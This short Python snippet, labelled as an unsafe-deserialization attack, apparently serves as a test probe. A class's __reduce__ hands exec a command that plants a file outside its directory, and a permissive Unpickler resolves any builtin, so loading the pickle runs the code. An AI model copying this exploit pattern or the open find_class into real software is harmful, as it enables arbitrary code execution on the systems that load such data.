# attack: unsafe-deserialization
import builtins, io, pickle
class Evil:
    def __reduce__(self):
        return (exec, ("open('outside/planted.txt', 'w').close()",))
class Unpickler(pickle.Unpickler):
    def find_class(self, module, name):
        return getattr(builtins, name)
Unpickler(io.BytesIO(pickle.dumps(Evil()))).load()
